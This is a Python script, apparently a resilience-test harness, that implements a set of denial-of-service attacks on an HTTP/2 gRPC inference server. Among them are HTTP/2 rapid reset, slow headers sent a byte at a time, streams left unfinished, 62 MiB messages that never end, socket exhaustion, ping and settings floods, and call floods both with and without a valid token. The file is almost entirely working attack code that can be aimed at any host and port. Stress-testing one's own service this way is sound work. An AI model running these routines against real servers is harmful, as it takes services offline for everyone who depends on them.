"""Neighbours that want the server for themselves. Each runs until it is told to end.

python attackers.py NAME HOST:PORT SECONDS [BUNDLE [TOKEN]]
"""

from __future__ import annotations

import itertools
import socket
import sys
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass, field

from raw_http2 import (
    DATA,
    HEADERS,
    MAX_FRAME,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    begun_message,
    call,
    fields,
    frame,
)

CALLS, CONNECTIONS = 600, 6
BIG_CALLS, BIG_MESSAGE = 32, 62 << 20
SOCKETS = 500
CHECKING = 32
CHEAP = (
    *("ServerMetadata", "RepositoryIndex", "ModelReady", "ModelStatistics", "ModelConfig", "ModelInfer"),
    *("NoSuchMethod", "../grpc.reflection.v1.ServerReflection/ServerReflectionInfo"),
)
"""Methods: a message of no bytes is a request of each, for nothing."""
PAUSE_S = 0.05


@dataclass
class Attack:
    """What an attacker knows and has.

    Attributes:
        address: HOST:PORT of the server.
        over: Set when it is to end.
        token: A valid one, of a client that means harm.
        message: A request that costs the server much.
    """

    address: str
    over: threading.Event = field(default_factory=threading.Event)
    token: str | None = None
    message: bytes = b""

    def rounds(self, pause_s: float = PAUSE_S) -> Iterator[int]:
        """Numbers, until it is over."""
        for number in itertools.count():
            if self.over.wait(pause_s):
                return
            yield number


def unfinished_calls(attack: Attack) -> None:
    """Headers of hundreds of calls, never a message; begun again wherever the server hangs up."""
    _hold(attack, CONNECTIONS, lambda: b"".join(call(2 * one + 1) for one in range(CALLS // CONNECTIONS)))


def unfinished_streams(attack: Attack) -> None:
    """The same one after the other, as fast as they are refused."""
    for _ in attack.rounds(0.0):
        with suppress(OSError), closing(Connection(attack.address)) as line:
            for number in range(500):
                if not line.send(call(2 * number + 1)):
                    break


def big_messages(attack: Attack) -> None:
    """Each call announces 62 MiB and sends as much as it may, but for the last byte."""
    with ExitStack() as ending:
        lines = [ending.enter_context(closing(_Greedy(attack))) for _ in range(BIG_CALLS)]
        for _ in attack.rounds(0.001):
            for line in lines:
                line.send_more()


class _Greedy:
    """A connection with one call whose message never ends."""

    def __init__(self, attack: Attack) -> None:
        self._attack, self._left, self._line = attack, 0, None

    def send_more(self) -> None:
        """64 kB, without waiting for room."""
        if self._line is None or not self._left:
            self._begin()
        assert self._line is not None
        self._line.socket.setblocking(False)
        try:
            for _ in range(4):
                self._line.socket.sendall(frame(DATA, 0, 1, bytes(min(MAX_FRAME, self._left))))
                self._left -= min(MAX_FRAME, self._left)
            while self._line.socket.recv(65536):
                pass
            self._left = 0
        except BlockingIOError:
            pass
        except OSError:
            self._left = 0

    def _begin(self) -> None:
        self.close()
        with suppress(OSError):
            self._line = Connection(self._attack.address)
            wide = frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
            head = call(1, "ModelInfer", self._attack.token) + frame(DATA, 0, 1, begun_message(BIG_MESSAGE))
            self._line.send(wide + head)
        self._left = BIG_MESSAGE - 1

    def close(self) -> None:
        if self._line:
            self._line.close()


def silent_sockets(attack: Attack) -> None:
    """Connections that say nothing; new ones for those that the server closes."""
    _hold(attack, SOCKETS, None)


def greeted_sockets(attack: Attack) -> None:
    """Connections that greet and then say nothing."""
    _hold(attack, SOCKETS, lambda: b"")


def slow_headers(attack: Attack) -> None:
    """Headers that never end, a byte at a time."""
    block = fields("ModelInfer") * 40
    head = frame(HEADERS, 0, 1, block[:50])
    _hold(attack, 100, lambda: head, lambda number: frame(9, 0, 1, block[50 + number % 900 : 51 + number % 900]))


def resets(attack: Attack) -> None:
    """Calls that are taken back at once, as fast as the connection goes (rapid reset)."""
    for _ in attack.rounds(0.0):
        with suppress(OSError), closing(Connection(attack.address)) as line:
            for number in range(2000):
                one = 2 * number + 1
                if not line.send(call(one, token=attack.token) + frame(RST_STREAM, 0, one, (8).to_bytes(4, "big"))):
                    break


def health_checks(attack: Attack) -> None:
    """What anyone may ask, without a pause, on many connections; with a token where there is one."""
    _ask_on_many(attack, ("ServerLive",))


def cheap_calls(attack: Attack) -> None:
    """What is answered or refused without work, unknown methods too, without a pause and on many connections."""
    _ask_on_many(attack, CHEAP)


def _ask_on_many(attack: Attack, methods: Sequence[str]) -> None:
    threads = [threading.Thread(target=_ask_without_pause, args=(attack, methods)) for _ in range(CHECKING)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _ask_without_pause(attack: Attack, methods: Sequence[str]) -> None:
    for _ in attack.rounds(0.0):
        with suppress(OSError), closing(Connection(attack.address)) as line:
            for number in range(2000):
                one, method = 2 * number + 1, methods[number % len(methods)]
                if not line.send(call(one, method, attack.token) + frame(DATA, 1, one, bytes(5))):
                    break


def pings(attack: Attack) -> None:
    """Pings and settings without end, the answers unread."""
    for _ in attack.rounds(0.0):
        with suppress(OSError), closing(Connection(attack.address)) as line:
            while line.send((frame(PING, 0, 0, b"8 bytes!") + frame(SETTINGS, 0, 0)) * 200):
                if attack.over.is_set():
                    return


def connections(attack: Attack) -> None:
    """New connections as fast as they are taken, closed at once."""
    for _ in attack.rounds(0.001):
        with suppress(OSError):
            Connection(attack.address).close()


def refused_calls(attack: Attack) -> None:
    """A stock client that asks again and again with a token that nobody knows."""
    import grpc

    wrong = [("authorization", "Bearer nobody-knows-this-token")]
    for _ in attack.rounds(0.0):
        with grpc.insecure_channel(attack.address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            ask = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer", bytes, bytes)
            for _ in range(20):
                with suppress(grpc.RpcError):
                    ask(attack.message or b"x", metadata=wrong, timeout=2)


def costly_packets(attack: Attack) -> None:
    """A client that is let in sends what costs most, on as many streams as it gets."""
    import grpc

    said = [("authorization", f"Bearer {attack.token}")] if attack.token else []
    threads = [threading.Thread(target=_stream, args=(grpc, attack, said)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _stream(grpc: object, attack: Attack, said: list[tuple[str, str]]) -> None:
    for _ in attack.rounds(0.01):
        with grpc.insecure_channel(attack.address, [("grpc.use_local_subchannel_pool", 1)]) as channel:  # type: ignore[attr-defined]
            ask = channel.stream_stream("/inference.GRPCInferenceService/ModelStreamInfer", bytes, bytes)
            replies = ask((attack.message for _ in range(10_000) if not attack.over.is_set()), metadata=said)
            with suppress(Exception):
                for _ in replies:
                    if attack.over.is_set():
                        replies.cancel()
                        return


def _hold(
    attack: Attack,
    count: int,
    greeting: Callable[[], bytes] | None,
    more: Callable[[int], bytes] | None = None,
) -> None:
    """Keep so many connections open, each begun with ``greeting``."""
    lines: list[Connection | None] = [None] * count
    try:
        for number in attack.rounds():
            for index, line in enumerate(lines):
                if line is None or not _is_alive(line):
                    lines[index] = _begun(attack, greeting)
                elif more is not None:
                    line.send(more(number))
                if attack.over.is_set():
                    break
    finally:
        for line in lines:
            if line is not None:
                line.close()


def _begun(attack: Attack, greeting: Callable[[], bytes] | None) -> Connection | None:
    with suppress(OSError):
        line = Connection(attack.address, greets=greeting is not None)
        line.send(greeting() if greeting else b"")
        return line
    return None


def _is_alive(line: Connection) -> bool:
    line.socket.setblocking(False)
    try:
        while line.socket.recv(65536):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    line.close()
    return False


STRANGERS: dict[str, Callable[[Attack], None]] = {
    one.__name__: one
    for one in (
        unfinished_calls,
        unfinished_streams,
        big_messages,
        silent_sockets,
        greeted_sockets,
        slow_headers,
        resets,
        health_checks,
        pings,
        connections,
        refused_calls,
    )
}
"""Of callers without a token."""
MEMBERS: dict[str, Callable[[Attack], None]] = {
    one.__name__: one for one in (costly_packets, big_messages, health_checks, cheap_calls, resets, pings)
}
"""Of a client that has one."""


def main() -> None:
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    token = sys.argv[4] if len(sys.argv) > 4 else None
    message = sys.stdin.buffer.read() if token else b""
    attack = Attack(address, token=token, message=message)
    threading.Timer(seconds, attack.over.set).start()
    (MEMBERS if token else STRANGERS)[name](attack)


if __name__ == "__main__":
    socket.setdefaulttimeout(10)
    main()
